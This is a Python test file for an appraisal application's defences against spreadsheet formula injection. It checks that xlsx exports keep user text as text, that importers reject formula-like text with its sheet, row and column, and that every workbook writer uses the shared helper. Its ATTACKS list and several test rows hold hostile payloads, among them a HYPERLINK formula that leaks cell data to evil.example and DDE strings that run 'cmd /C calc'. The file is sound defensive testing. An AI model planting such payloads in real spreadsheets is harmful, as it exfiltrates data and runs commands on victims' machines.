"""Formula injection (issue 8 item 8): every xlsx the product writes keeps user text as text, and every
importer refuses text that a spreadsheet would run as a formula, naming sheet, row and column.

The exports of other apps are checked in their own tests (indicators, tracelog, rewards); this file holds
the helper, the year workbook (reader and results writer) and the roster."""
from __future__ import annotations

import io
from decimal import Decimal

import openpyxl
import pytest

from appraisal import roster
from appraisal.exchange.reader import read_workbook
from appraisal.exchange.writer import write_results
from appraisal.models import Department, Person
from appraisal.xlsx import append_row, datasets_workbook, formula_problem, looks_like_formula
from scoring.yeardata import AnnualRow, DepartmentAnnualRow, MonthlyRow, RewardRow, YearResult
from tests.public_scenarios import input_path

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",  # DDE
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def formulas_in(content) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def texts_in(content) -> set:
    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


# ------------------------------------------------------------------------------------------------
# The helper


@pytest.mark.parametrize("text, expected", [
    *[(attack, True) for attack in ATTACKS],
    ("\n@x", True),
    ("办公室", False), ("张三", False), ("D01", False), ("", False), ("a=b", False), ("1-2", False),
    ("（=）", False), ("95%", False),
])
def test_looks_like_formula(text, expected):
    assert looks_like_formula(text) is expected


@pytest.mark.parametrize("value, refused", [
    ("=1+1", True), ("+86 10 1234", True), ("-张三", True), ("@张三", True), ("\t张三", True), ("\r\n张三", True),
    (" =1", True),
    ("-5", False), ("-0.5", False), ("+3", False),  # numbers written as text: no formula, the column's rules judge
    (-5, False), (Decimal("-1.5"), False), (None, False), ("张三", False),
])
def test_formula_problem(value, refused):
    problem = formula_problem(value)
    assert (problem is not None) is refused
    if refused:
        assert "公式" in problem


@pytest.mark.parametrize("write_only", [False, True])
def test_append_row_keeps_text_as_text_and_numbers_as_numbers(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    append_row(sheet, [*ATTACKS, -5, Decimal("-1.25"), "普通文字", None])
    buffer = io.BytesIO()
    book.save(buffer)
    assert formulas_in(buffer.getvalue()) == []
    loaded = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cells = list(loaded[1])
    # the text itself is kept exactly (XML stores a carriage return as a line feed)
    assert [c.value for c in cells[:len(ATTACKS)]] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:len(ATTACKS)])
    assert [c.value for c in cells[len(ATTACKS):]][:3] == [-5, -1.25, "普通文字"]
    assert cells[len(ATTACKS)].data_type == "n"


def test_datasets_workbook():
    import tablib

    dataset = tablib.Dataset(["=1+1", -3, "甲"], headers=["名称", "数", "文字"], title="表一")
    content = datasets_workbook([dataset])
    assert formulas_in(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content))["表一"]
    assert [c.value for c in sheet[1]] == ["名称", "数", "文字"]
    assert [c.value for c in sheet[2]] == ["=1+1", -3, "甲"]


# ------------------------------------------------------------------------------------------------
# The year workbook


def test_results_workbook_writes_names_as_text(tmp_path):
    name = ATTACKS[0]
    result = YearResult(
        monthly=[MonthlyRow("1001", name, "D01", 3, None, Decimal("1.00"), None, Decimal("85"), "良好")],
        annual=[AnnualRow("1001", ATTACKS[1], "=D01", Decimal("90"), None, None, False, Decimal("90"), 1, "优秀",
                          Decimal("1.2"))],
        department_annual=[DepartmentAnnualRow("D01", ATTACKS[4], "综合", Decimal("90"), 1, 1, True, 1, "")],
        rewards=[RewardRow("1001", ATTACKS[2], "嘉奖", Decimal("800"))],
    )
    out = tmp_path / "results.xlsx"
    write_results(result, out)
    assert formulas_in(out) == []
    assert {name, ATTACKS[1], "=D01", ATTACKS[4], ATTACKS[2]} <= texts_in(out)


def _year_workbook(tmp_path, changes):
    book = openpyxl.load_workbook(input_path("small-11"))
    for sheet, row, header, value in changes:
        worksheet = book[sheet]
        column = next(c.column for c in worksheet[1] if c.value == header)
        worksheet.cell(row=row, column=column).value = value
        if isinstance(value, str):
            worksheet.cell(row=row, column=column).data_type = "s"  # typed as text, not as a formula
    path = tmp_path / "year.xlsx"
    book.save(path)
    return path


def test_year_workbook_refuses_formula_text_with_sheet_row_and_column(tmp_path):
    path = _year_workbook(tmp_path, [
        ("人员", 2, "姓名", "=HYPERLINK(\"http://evil.example\",\"张三\")"),
        ("部门", 3, "部门名称", "@SUM(1)"),
        ("指标", 4, "指标名称", "\t=1+1"),
        ("单位", 2, "单位名称", "+测试局"),
    ])
    read = read_workbook(path)
    assert read.data is None
    where = {(e.sheet, e.row, e.column) for e in read.errors if "公式" in e.message}
    assert where == {("人员", 2, "姓名"), ("部门", 3, "部门名称"), ("指标", 4, "指标名称"), ("单位", 2, "单位名称")}
    assert any("以“=”开头的文字会被 Excel 当作公式执行" in str(e) and str(e).startswith("人员 / 第2行 / 姓名")
               for e in read.errors)


def test_year_workbook_takes_negative_numbers_as_numbers(tmp_path):
    """A negative number typed as a number is no formula: the column's own rule reports it."""
    path = _year_workbook(tmp_path, [("共同类得分", 2, "得分", -1)])
    read = read_workbook(path)
    [error] = read.errors
    assert (error.sheet, error.row, error.column) == ("共同类得分", 2, "得分") and "公式" not in error.message


# ------------------------------------------------------------------------------------------------
# The roster (departments, people)


def _upload(rows):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "人员"
    for row in rows:
        append_row(sheet, row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.django_db
def test_roster_export_writes_names_as_text(world):
    Department.objects.filter(pk=world.department.pk).update(name=ATTACKS[1])
    Person.objects.filter(pk=world.staff.pk).update(name=ATTACKS[0], category="-2+3")
    for kind in ("departments", "people"):
        content = roster.roster_export(user=world.users["office"], organisation=world.organisation, kind=kind)
        assert formulas_in(content) == [], kind
    assert {ATTACKS[0], "-2+3"} <= texts_in(content)


@pytest.mark.django_db
def test_roster_import_refuses_formula_text(world):
    content = _upload([
        ["工号", "姓名", "部门编码", "职务类型", "人员类别"],
        ["3001", "=HYPERLINK(\"http://evil.example\",\"新同志\")", "D01", "一般干部", ""],
        ["3002", "正常", "D01", "一般干部", "@综合管理类"],
        ["3003", "负数", "D01", "一般干部", -5],  # a number, not text
    ])
    report = roster.roster_import(user=world.users["office"], organisation=world.organisation, kind="people",
                                  content=content, dry_run=False)
    formula = [e for e in report.errors if "公式" in e]
    assert len(formula) == 2, report.errors
    assert formula[0].startswith("人员 / 第2行 / 姓名：") and formula[1].startswith("人员 / 第3行 / 人员类别：")
    assert not report.written and not Person.objects.filter(staff_id__startswith="300").exists()


# ------------------------------------------------------------------------------------------------
# Every writer of the product goes through the helper

# Modules that build a workbook without any user text (reviewed): name -> why.
NO_USER_TEXT = {
    "appraisal/exchange/reader/template.py": "the empty input template: constant headers and hints",
    "scoring/management/commands/bench_scale.py": "the benchmark's baseline: a plain write of synthetic rows, "
                                                  "timed and thrown away, never given to anyone",
}


def test_every_xlsx_writer_goes_through_the_helper():
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writes = re.compile(r"Workbook\(|export\(\s*[\"']xlsx|\.export\(\)\s*$|Databook\(\[")
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/")) or "/tests/" in relative or "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        if relative in NO_USER_TEXT or relative == "appraisal/xlsx.py" or not writes.search(text):
            continue
        if "Workbook(" in text or "xlsx" in text:
            if "appraisal.xlsx import" not in text and "from .xlsx import" not in text \
                    and "from ..xlsx import" not in text and "ContinuedSheet(" not in text:
                offenders.append(relative)
    assert offenders == []
